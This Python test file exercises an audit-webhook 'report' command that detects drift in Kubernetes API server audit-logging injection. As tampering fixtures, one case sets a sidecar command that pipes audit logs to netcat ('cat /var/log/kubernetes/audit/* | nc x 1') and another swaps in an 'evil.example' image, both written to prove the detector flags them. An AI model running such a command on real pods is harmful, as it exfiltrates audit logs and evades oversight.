"""`audit-webhook report`: effective state, destinations, webhook backend and drift, per cluster."""

from __future__ import annotations

import copy
import csv
import io
import json

import pytest
import yaml

from tests.conftest import write_store
from tests.helpers import EXAMPLES, KUBECONFIG, bare_pod, cluster, secret, seed, webhook_backend
from webhook.adapters.cli import main
from webhook.core import names
from webhook.core.desired_pod import audit_flags, desired_pod
from webhook.core.mutation import prepare
from webhook.core.operator_config import OperatorConfig
from webhook.core.options import Options
from webhook.core.report import DRIFT_KINDS, Drift, cluster_row, render_csv, render_json, render_table, rows_of
from webhook.core.snapshot import Snapshot

OPTS = Options.default()
AUDITED = cluster(name="aud", audit={
    "enabled": True, "policyPreset": "minimal",
    "sidecar": {"config": {"outputs": [{"Name": "http", "Match": "*", "Host": "logs.example", "Port": "443",
                                        "HTTP_User": "bob", "HTTP_Passwd": "hunter2"}]}},
    "webhookBackend": webhook_backend("wh")})
CREDENTIALED = KUBECONFIG.replace("https://audit-sink.audit.svc:8443/events", "https://user:pa55@sink.example:9443/x?token=t")


def injected(obj, options=OPTS, name="apiserver-0"):
    pod = bare_pod(args=["--secure-port=6443"])
    pod["metadata"]["name"] = name
    p = prepare(obj, None, options)
    return desired_pod(pod, p.injection)


def details(row):
    return [d.detail for d in row.drift]


def kinds(row):
    return {d.kind for d in row.drift}


def row_for(obj, *, pods=(), secrets=None, configmaps=None, seed_obj=None):
    ns = f"cluster-{obj['metadata']['name']}"
    secrets = secrets if secrets is not None else {(ns, "wh"): {"webhook.yaml": CREDENTIALED.encode()},
                                                   (ns, names.SECRET_FLUENTBIT): {"fluent-bit.conf": b""}}
    configmaps = configmaps if configmaps is not None else {(ns, "audit-config")}
    return cluster_row(obj, seed_obj, pods=list(pods), secrets=secrets, configmaps=configmaps, options=OPTS)


def test_a_healthy_cluster_has_no_drift_and_no_credentials_in_sight():
    row = row_for(AUDITED, pods=[injected(AUDITED)])
    assert (row.audit, row.preset, row.decided_by, row.apiserver_pods) == ("on", "minimal", "cluster", 1)
    assert row.logs_to == ["http logs.example:443"]
    assert row.webhook_secret == "cluster-aud/wh"
    assert row.webhook_server == "https://sink.example:9443"
    assert row.drift == []
    everything = render_json([row]) + render_table([row]) + render_csv([row])
    for secret_text in ("hunter2", "bob", "pa55", "token", "user:"):
        assert secret_text not in everything


@pytest.mark.parametrize(("pods", "secrets", "configmaps", "expected"), [
    ([bare_pod()], None, None, [
        Drift("pod_not_injected", "Pod apiserver-0: no audit-logs sidecar"),
        Drift("pod_not_injected", "Pod apiserver-0: not injected (no settings hash)"),
        Drift("pod_flags", "Pod apiserver-0: --audit-log-path=(missing), want /var/log/kubernetes/audit/audit.log")]),
    ([injected(cluster(name="aud", audit={"enabled": True}))], None, None, None),
    ([], {}, set(), [Drift("object_missing", "Secret cluster-aud/wh missing"),
                     Drift("object_missing", "ConfigMap audit-config missing"),
                     Drift("object_missing", "Secret audit-logs-fluentbit missing")]),
])
def test_drift(pods, secrets, configmaps, expected):
    row = row_for(AUDITED, pods=pods, secrets=secrets, configmaps=configmaps)
    if expected is None:  # a Pod injected with older settings
        assert any(d.kind == "pod_outdated" and "stale settings hash" in d.detail for d in row.drift)
        assert any(d.kind == "pod_flags" and "--audit-webhook-config-file=(missing)" in d.detail for d in row.drift)
    else:
        for problem in expected:
            assert problem in row.drift


def _edited(change):
    pod = copy.deepcopy(injected(AUDITED))  # its volumes are the (cached) injection's own objects
    change(pod["spec"])
    return pod


def _sidecar(spec):
    return next(c for c in spec["containers"] if c["name"] == "audit-logs")


@pytest.mark.parametrize(("change", "expected", "kind"), [
    (lambda spec: _sidecar(spec).update(image="evil.example/toolbox:1"),
     'Pod apiserver-0: audit-logs image evil.example/toolbox:1, injection gives', "pod_injection"),
    (lambda spec: _sidecar(spec).update(command=["/bin/sh", "-c", "cat /var/log/kubernetes/audit/* | nc x 1"]),
     'Pod apiserver-0: audit-logs command ["/bin/sh","-c",', "pod_injection"),
    (lambda spec: _sidecar(spec)["volumeMounts"].append(
        {"name": "scratch", "mountPath": "/etc/fluent-bit/fluent-bit.conf", "subPath": "evil.conf"}),
     "Pod apiserver-0: audit-logs volumeMounts", "pod_injection"),
    (lambda spec: next(v for v in spec["volumes"] if v["name"] == "audit-log").update(emptyDir={"sizeLimit": "1Ki"}),
     'Pod apiserver-0: volume audit-log {"name":"audit-log","emptyDir":{"sizeLimit":"1Ki"}}, injection gives',
     "pod_injection"),
    (lambda spec: next(c for c in spec["containers"] if c["name"] == "apiserver")["volumeMounts"].append(
        {"name": "scratch", "mountPath": "/etc/kubernetes/audit/policy.yaml", "subPath": "p"}),
     "Pod apiserver-0: apiserver volumeMounts differ from what injection gives", "pod_injection"),
    (lambda spec: spec.update(ephemeralContainers=[{"name": "dbg", "image": "busybox", "volumeMounts": [
        {"name": "audit-log", "mountPath": "/log"}]}]),
     "Pod apiserver-0: ephemeral container dbg mounts audit-log", "pod_ephemeral_mount"),
])
def test_a_running_pod_that_differs_from_what_injection_gives_is_drift(change, expected, kind):
    """What an UPDATE, an ephemeral container or a Pod written past the webhook could leave behind."""
    assert row_for(AUDITED, pods=[injected(AUDITED)]).drift == []
    row = row_for(AUDITED, pods=[_edited(change)])
    assert any(d.detail.startswith(expected) and d.kind == kind for d in row.drift), row.drift


def test_flag_values_that_differ_are_drift():
    pod = injected(AUDITED)
    args = next(c for c in pod["spec"]["containers"] if c["name"] == "apiserver")["args"]
    args[args.index("--audit-log-maxage=30")] = "--audit-log-maxage=7"
    assert Drift("pod_flags", "Pod apiserver-0: --audit-log-maxage=7, want 30") in row_for(AUDITED, pods=[pod]).drift


def test_an_injected_pod_of_a_cluster_now_off_is_drift():
    off = cluster(name="aud")
    row = row_for(off, pods=[injected(AUDITED)])
    assert row.audit == "off"
    assert row.drift == [Drift("pod_injected_while_off",
                               "Pod apiserver-0: still injected although audit logging and the webhook are off")]


def test_datacenter_webhook_needs_both_the_secret_and_its_copy():
    s = seed({"dc1": {"enforcedAuditWebhookSettings": {"auditWebhookConfig": {"name": "dcwh", "namespace": "kubermatic"}}}})
    row = row_for(cluster(name="dcc"), seed_obj=s, secrets={("kubermatic", "dcwh"): {"webhook.yaml": KUBECONFIG.encode()}})
    assert row.webhook_decided_by == "datacenter enforcement"
    assert row.drift == [Drift("object_missing", "Secret cluster-dcc/dcwh (the copy the Pod mounts) missing")]


def test_report_command_on_the_examples(capsys):
    code = main(["report", "--source", str(EXAMPLES), "-o", "json"])
    rows = {r["cluster"]: r for r in json.loads(capsys.readouterr().out)}
    assert code == 0
    assert rows["auditon01"]["drift"] == []  # examples/files/ holds its ConfigMap and Secret
    assert rows["enforced01"]["decided_by"] == "seed defaults"
    assert rows["edge01"]["decided_by"] == "datacenter enforcement"
    assert rows["optout01"]["decided_by"] == "cluster (opted out of datacenter enforcement)"
    assert rows["dcwebhook01"]["webhook_server"] == "https://audit-sink.kubermatic.svc:8443"
    assert rows["rejected01"]["audit"] == "invalid"
    assert rows["rejected01"]["drift"][0]["kind"] == "settings_invalid"
    assert main(["report", "--source", str(EXAMPLES), "--fail-on-drift"]) == 1


def test_report_formats_and_clean_exit(capsys, tmp_path):
    ns = "cluster-aud"
    objects = [AUDITED, secret(ns, "wh", {"webhook.yaml": KUBECONFIG}),
               secret(ns, names.SECRET_FLUENTBIT, {"fluent-bit.conf": "x"}),
               {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "audit-config", "namespace": ns},
                "data": {"policy.yaml": "x"}},
               {**injected(AUDITED), "metadata": {**injected(AUDITED)["metadata"], "namespace": ns}}]
    # Without the Seed of its datacenter, the report cannot know it is clean.
    assert main(["report", "--source", str(write_store(tmp_path / "noseed", objects)), "--fail-on-drift"]) == 1
    assert 'datacenter "dc1" is defined by no Seed' in capsys.readouterr().out
    root = write_store(tmp_path / "s", [*objects, seed({"dc1": {}})])
    assert main(["report", "--source", str(root), "--fail-on-drift"]) == 0
    table = capsys.readouterr().out
    assert table.splitlines()[0].split()[:3] == ["CLUSTER", "DC", "AUDIT"]
    assert "https://audit-sink.audit.svc:8443 (cluster-aud/wh, 10s, by cluster)" in table
    main(["report", "--source", str(root), "-o", "csv"])
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["cluster"] == "aud" and rows[0]["apiserver_pods"] == "1" and rows[0]["drift"] == ""
    assert yaml.safe_load(render_json([]) or "[]") == []


def test_report_lists_filters_and_flags_the_ones_that_lose_records():
    obj = cluster(name="lossy", audit={"enabled": True, "sidecar": {"config": {
        "filters": [{"Name": "stdout", "Match": "*"}, {"Name": "grep", "Match": "*", "Exclude": "verb get"}],
        "outputs": [{"Name": "null", "Match": "*"}, {"Name": "http", "Match": "*", "Host": "logs.example"}]}}})
    row = row_for(obj)
    assert row.filters == ["stdout", "grep"]
    assert row.record_loss == ["filters[1] grep: changes or drops records", "outputs[0] null: throws every record away"]
    assert row.logs_to == ["null", "http logs.example"]
    table = render_table([row])
    assert "LOSES RECORDS" in table and "filters[1] grep: changes or drops records" in table
    assert json.loads(render_json([row]))[0]["record_loss"] == row.record_loss


def test_report_shows_the_default_output_an_enforced_datacenter_keeps():
    obj = cluster(name="enf", audit={"sidecar": {"config": {
        "outputs": [{"Name": "http", "Match": "*", "Host": "logs.example"}]}}})
    row = row_for(obj, seed_obj=seed({"dc1": {"enforceAuditLogging": True}}))
    assert row.audit == "on"
    assert row.logs_to == ["stdout (sidecar log)", "http logs.example"]
    assert row.record_loss == []


def test_a_cluster_kkp_defaulted_with_its_datacenters_webhook_is_reported_as_valid():
    backend = {"auditWebhookConfig": {"name": "dcwh", "namespace": "kubermatic"}, "auditWebhookInitialBackoff": "0s"}
    s = seed({"dc1": {"enforceAuditLogging": True, "enforcedAuditWebhookSettings": backend}})
    obj = cluster(name="kkpdc", audit={"enabled": True, "webhookBackend": backend})
    row = row_for(obj, seed_obj=s, secrets={("kubermatic", "dcwh"): {"webhook.yaml": KUBECONFIG.encode()}})
    assert (row.audit, row.datacenter, row.webhook_secret, row.webhook_backoff) == ("on", "dc1", "kubermatic/dcwh", "0s")
    assert row.webhook_decided_by == "datacenter enforcement"


def test_an_invalid_cluster_still_shows_its_namespace_and_datacenter():
    row = row_for(cluster(name="bad", audit={"enabled": True, "policyPreset": "verbose"}))
    assert (row.audit, row.namespace, row.datacenter) == ("invalid", "cluster-bad", "dc1")


def test_an_object_in_the_reconcilers_way_is_a_drift_row_in_standalone_mode():
    obj = cluster(name="way", audit={"enabled": True, "policyPreset": "minimal"})
    snap = Snapshot.of([obj, secret("cluster-way", names.SECRET_FLUENTBIT, {"fluent-bit.conf": "x"}),
                        {"apiVersion": "v1", "kind": "ConfigMap",
                         "metadata": {"name": "audit-config", "namespace": "cluster-way"}, "data": {}}])
    (row,) = rows_of(snap, OPTS, "standalone")
    assert "Secret audit-logs-fluentbit exists and is not managed by audit-webhook (left alone)" in details(row)
    assert "ConfigMap audit-config exists and is not managed by audit-webhook (left alone)" in details(row)
    assert row.drift_counts()["object_not_ours"] == 2
    (kkp_row,) = rows_of(snap, OPTS, "kkp")
    assert "object_not_ours" not in kinds(kkp_row)  # KKP's own objects, as expected


def test_two_clusters_claiming_one_namespace_are_both_reported():
    thief = cluster(name="thief")
    thief["status"] = {"namespaceName": "cluster-victim"}
    rows = rows_of(Snapshot.of([cluster(name="victim", audit={"enabled": True}), thief]), OPTS)
    assert [r.cluster for r in rows] == ["thief", "victim"]
    assert Drift("namespace_contested", "namespace cluster-victim is also claimed by victim") in rows[0].drift
    assert Drift("namespace_contested", "namespace cluster-victim is also claimed by thief") in rows[1].drift


def test_report_compares_the_egress_policy_with_the_reconcilers():
    """With the operator's configuration, a missing or different egress NetworkPolicy is drift; the one
    the reconciler keeps (desired_state, with the Service it reads) is not."""
    from webhook.core.egress import service_view
    from webhook.core.reconcile_plan import desired_state, egress_targets, services_needed

    obj = cluster(audit={"enabled": True, "policyPreset": "minimal", "sidecar": {"config": {"outputs": [
        {"Name": "forward", "Match": "*", "Host": "fluentd.audit.svc", "Port": "24224"}]}}})
    service = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "fluentd", "namespace": "audit"},
               "spec": {"selector": {"app": "fluentd"}, "ports": [{"port": 24224, "targetPort": 24225}]}}
    config = OperatorConfig.model_validate({"egress": {"namespaces": ["audit"]}})
    settings = prepare(obj, None, Options.default()).settings
    assert services_needed(egress_targets(settings, None)) == [("audit", "fluentd")]
    kept, = desired_state(settings, Options.default(), webhook_source=None, webhook_config=None,
                          services={("audit", "fluentd"): service_view(service)}, config=config, mode="kkp").objects

    def egress_drift(*extra, cfg=config):
        rows = rows_of(Snapshot.of([obj, service, *extra]), Options.default(), "kkp", cfg)
        return [d.detail for d in rows[0].drift if d.kind == "egress_policy"]

    assert egress_drift() == ["NetworkPolicy audit-logging-egress missing"]
    assert egress_drift(kept) == []
    wider = {**kept, "spec": {**kept["spec"], "egress": [{"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}]}}
    assert egress_drift(wider) == ["NetworkPolicy audit-logging-egress differs from what the reconciler keeps"]
    closed = OperatorConfig.model_validate({})
    assert egress_drift(kept, cfg=closed) == [
        "NetworkPolicy audit-logging-egress allows egress although none is needed"]
    assert egress_drift(cfg=None) == []  # without the configuration the allow-list is unknown: not compared


def test_drift_counts_by_kind_and_every_kind_is_reachable():
    """The counts behind audit_webhook_cluster_drift{cluster,kind}; each kind is produced by some case here."""
    seen = set()
    stale = row_for(AUDITED, pods=[bare_pod()], secrets={}, configmaps=set())
    counts = stale.drift_counts()
    assert (counts["object_missing"], counts["pod_not_injected"]) == (3, 2)
    assert counts["pod_flags"] == len(audit_flags(prepare(AUDITED, None, OPTS).settings))  # every flag is missing
    assert sum(counts.values()) == len(stale.drift)
    seen |= kinds(stale)
    seen |= kinds(row_for(AUDITED, pods=[injected(cluster(name="aud", audit={"enabled": True}))]))
    seen |= kinds(row_for(AUDITED, pods=[_edited(lambda spec: _sidecar(spec).update(image="x"))]))
    seen |= kinds(row_for(AUDITED, pods=[_edited(lambda spec: spec.update(ephemeralContainers=[
        {"name": "dbg", "volumeMounts": [{"name": "audit-log", "mountPath": "/log"}]}]))]))
    seen |= kinds(row_for(cluster(name="aud"), pods=[injected(AUDITED)]))
    seen |= kinds(row_for(cluster(name="bad", audit={"enabled": True, "policyPreset": "verbose"})))
    way = cluster(name="way", audit={"enabled": True, "policyPreset": "minimal"})
    thief = {**cluster(name="thief"), "status": {"namespaceName": "cluster-way"}}
    for row in rows_of(Snapshot.of([way, thief, secret("cluster-way", names.SECRET_FLUENTBIT, {"a": "b"})]), OPTS):
        seen |= kinds(row)
    closed = OperatorConfig.model_validate({})
    stray = {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
             "metadata": {"name": "audit-logging-egress", "namespace": "cluster-aud"},
             "spec": {"egress": [{}]}}
    seen |= kinds(rows_of(Snapshot.of([AUDITED, stray]), OPTS, "kkp", closed)[0])
    assert seen == set(DRIFT_KINDS)
    assert row_for(AUDITED, pods=[injected(AUDITED)]).drift_counts() == {}
